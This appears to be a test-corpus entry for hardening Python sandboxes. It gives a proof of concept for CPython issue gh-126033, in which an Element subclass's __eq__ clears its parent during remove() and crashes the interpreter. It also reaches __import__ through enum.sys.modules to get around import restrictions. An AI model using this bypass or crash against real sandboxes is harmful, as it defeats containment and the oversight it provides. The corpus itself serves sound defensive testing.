# id: elementtree-remove-eq
# family: memory-safety
# kind: crash
# invariant: A, G
# origin: CPython report gh-126033
# technique: remove() compares children by the guest's __eq__, which clears the element under it
# needs: a jail that lets xml through
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: builtins, permits
# fix: structural
# alive-when: crash

import enum

load = enum.sys.modules["builtins"].__import__
Element = load("xml.etree.ElementTree", None, None, ["x"]).Element


class Child(Element):
    def __eq__(self, other):
        top.clear()
        return False

    __hash__ = None


top = Element("top")
top.extend([Child("a"), Child("b"), Child("c")])
top.remove(Child("z"))
